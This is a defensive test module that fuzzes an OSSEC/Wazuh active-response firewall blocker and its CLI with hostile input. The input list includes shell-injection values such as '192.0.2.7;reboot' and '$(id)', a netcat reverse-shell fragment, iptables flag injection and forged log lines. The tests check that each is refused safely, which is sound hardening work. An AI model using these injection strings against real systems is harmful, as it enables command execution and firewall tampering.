"""Hostile input, both protocols and the CLI, against the real firewall-drop in a
private namespace. Property: the only effect of any input is a correct block of a valid,
allowed, normalised address, or a one-line refusal; never a traceback, never a rule for
anything else, and every log line stays one line with the hostile bytes escaped."""

from __future__ import annotations

import ipaddress
import json
import subprocess
from collections.abc import Iterator

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from sandbox import MANAGER_IP, AgentSandbox

from activeresponse.addresses import parse_ip
from activeresponse.errors import InvalidAddress
from activeresponse.netns import Namespace

pytestmark = pytest.mark.netns

CORPUS = [
    "192.0.2.7;reboot", "192.0.2.7 && id", "$(id)", "`id`", "|nc -e /bin/sh 1.2.3.4 1",
    "-j ACCEPT", "--flush", "-F", "192.0.2.7 -j ACCEPT", "-s 0.0.0.0/0",
    "192.0.2.7\nFri Jan  1 00:00:00 UTC 2027 /var/ossec/active-response/bin/firewall-drop.sh "
    "delete - 10.0.0.1 1 1", "192.0.2.7\r\n", "\x1b[31mred", "192.0.2.7\x00", "\t192.0.2.7",
    "192.0.2.0/24", "192.0.2.1-192.0.2.9", "0.0.0.0/0", "::/0", "::ffff:127.0.0.1",
    "::ffff:192.0.2.77", "fe80::1%eth0", "fe80::1%25eth0", "0127.0.0.1", "0x7f000001",
    "0177.0.0.1", "2130706433", "127.1", "192.000.002.007", "1.2.3.04", "localhost",
    "attacker.example", "xn--80ak6aa92e.com", "１９２.０.２.７", "192.0.2.7\u2028", "\udcff\udcfe",
    "A" * 5000, "2001:DB8::0007", "2001:db8:0:0:0:0:0:8", "[2001:db8::9]", "192.0.2.7:22",
    MANAGER_IP, "127.0.0.1", "::1", "0.0.0.0", "255.255.255.255", "224.0.0.1", "169.254.1.1",
]  # fmt: skip

addresses = st.one_of(
    st.sampled_from(CORPUS),
    st.ip_addresses(v=4).map(str),
    st.ip_addresses(v=6).map(str),
    st.text(
        alphabet=st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)),
        max_size=60,
    ),
)
words = st.text(
    alphabet=st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)), max_size=40
)


@pytest.fixture(scope="module")
def box(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AgentSandbox]:
    with Namespace.create("ar-hostile") as ns:
        b = AgentSandbox(tmp_path_factory.mktemp("hostile"), ns, "iptables-nft")
        yield b
        b.cleanup()


def expected_address(text: str) -> str | None:
    """What a correct blocker would block for this text: the normalised address if it
    is a valid literal that no guard class refuses, else nothing."""
    try:
        addr = parse_ip(text)
    except InvalidAddress:
        return None
    net = ipaddress.ip_network(addr)
    if addr.is_loopback or addr.is_multicast or addr.is_link_local or str(addr) == MANAGER_IP:
        return None
    if net.overlaps(ipaddress.ip_network("0.0.0.0/8")) if addr.version == 4 else addr == \
            ipaddress.ip_address("::"):  # fmt: skip
        return None
    if str(addr) in ("255.255.255.255", "203.0.113.51"):
        return None
    return str(addr)


def check_effect(box: AgentSandbox, done_code: int, stderr: str, text: str, log_before: int,
                 action: str) -> None:  # fmt: skip
    assert done_code in (0, 2, 3), (done_code, stderr)
    assert "Traceback" not in stderr
    assert len(stderr.splitlines()) <= 1, stderr
    # Every log line is one printable line: nothing forged, nothing raw.
    lines = box.ar_log()
    for line in lines[log_before:]:
        assert line.isprintable(), repr(line)
    blocked = set(box.drops(4)) | set(box.drops(6))
    ledger = {r[0] for r in box.ledger_rows()}
    assert blocked == ledger  # never a rule for anything the ledger does not hold
    want = expected_address(text)
    if action == "add":
        if want is None:
            assert done_code != 0 or text == "", (text, done_code)
        else:
            assert done_code == 0, (text, stderr)
            assert want in blocked
    for address in blocked:  # only valid, normalised literals are ever blocked
        assert str(parse_ip(address)) == address


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(action=st.sampled_from(["add", "delete"]), address=addresses, user=words,
       alert=words, rule=words)  # fmt: skip
def test_ossec_argv(box: AgentSandbox, action: str, address: str, user: str, alert: str,
                    rule: str) -> None:  # fmt: skip
    assume("\x00" not in address)  # execve cannot pass a NUL byte in argv
    before = len(box.ar_log())
    done = box.ossec(action, user or "-", address, alert, rule, "(host) any->/var/log/secure")
    check_effect(box, done.returncode, done.stderr, address, before, action)


def run_wazuh(box: AgentSandbox, payload: bytes, answer: str = "continue") -> tuple[int, str]:
    proc = subprocess.Popen(box.argv(box.wazuh_exe), env=box.env, stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)  # fmt: skip
    assert proc.stdin and proc.stdout
    try:
        proc.stdin.write(payload + b"\n")
        proc.stdin.flush()
    except BrokenPipeError:  # it refused an oversized line without reading it all: fine
        pass
    asked = proc.stdout.readline()
    if asked:
        keys = json.loads(asked)
        assert keys["command"] == "check_keys" and len(keys["parameters"]["keys"]) == 1
        reply = {"version": 1, "origin": {"name": "", "module": "wazuh-execd"},
                 "command": answer, "parameters": {}}  # fmt: skip
        proc.stdin.write(json.dumps(reply).encode() + b"\n")
        proc.stdin.flush()
    _, err = proc.communicate(timeout=60)
    return proc.returncode, err.decode("utf-8", "replace")


def message(command: str, srcip: object, extra: dict) -> bytes:
    data = {"srcip": srcip, **extra}
    return json.dumps({"version": 1, "origin": {"name": "", "module": "wazuh-execd"},
                       "command": command, "parameters": {"alert": {"data": data,
                       "rule": {"id": 5712}}}}).encode()  # fmt: skip


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=5), children, max_size=3)
    ),
    max_leaves=10,
)


@settings(max_examples=100, deadline=None, suppress_health_check=list(HealthCheck))
@given(command=st.sampled_from(["add", "delete"]), address=addresses,
       extra=st.dictionaries(st.text(max_size=8), json_values, max_size=3))  # fmt: skip
def test_wazuh_messages(box: AgentSandbox, command: str, address: str, extra: dict) -> None:
    extra.pop("srcip", None)
    before = len(box.ar_log())
    code, err = run_wazuh(box, message(command, address, extra))
    check_effect(box, code, err, address, before, command)


RAW = [
    b"", b"{", b"[]", b"null", b'{"version":1}', b"\xff\xfe\xfd", b"{" * 200000,
    b'{"version":1,"origin":{},"command":"add","parameters":{"alert":{"data":{"srcip":'
    b'"192.0.2.7\\n2027/01/01 00:00:00 forged: Ended"}}}}',
    b'{"version":1,"origin":{},"command":"add","parameters":{"alert":{"data":{"srcip":["1.2.3.4"]}}}}',
    b'{"version":1,"origin":{},"command":"add","parameters":{"alert":{"data":{"srcip":19216801}}}}',
    b'{"version":"1","origin":{},"command":"add","parameters":{}}', b"x" * 70000,
]  # fmt: skip


@pytest.mark.parametrize("payload", RAW, ids=range(len(RAW)))
def test_wazuh_raw_payloads(box: AgentSandbox, payload: bytes) -> None:
    before_log = len(box.ar_log())
    before = box.snapshot()
    code, err = run_wazuh(box, payload)
    assert code == 2 and "Traceback" not in err and len(err.splitlines()) == 1
    assert box.snapshot() == before
    assert all(line.isprintable() for line in box.ar_log()[before_log:])


@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
@given(command=st.sampled_from([["block"], ["unblock"], ["allow", "add"], ["block", "--for"]]),
       value=addresses)  # fmt: skip
def test_cli_arguments(box: AgentSandbox, command: list[str], value: str) -> None:
    assume("\x00" not in value)
    before = box.snapshot()
    if command == ["block", "--for"]:
        done = box.cli("block", "198.51.100.200", "--for", value)
        if done.returncode == 0:
            box.cli("unblock", "198.51.100.200")
            return
    else:
        done = box.cli(*command, "--", value)
        if done.returncode == 0:  # a valid target: undo so the next example starts clean
            box.cli("unblock", value) if command[0] == "block" else \
                box.cli("allow", "remove", value)  # fmt: skip
            return
    assert done.returncode in (1, 2, 3), done
    assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1
    assert box.snapshot()[:2] == before[:2]
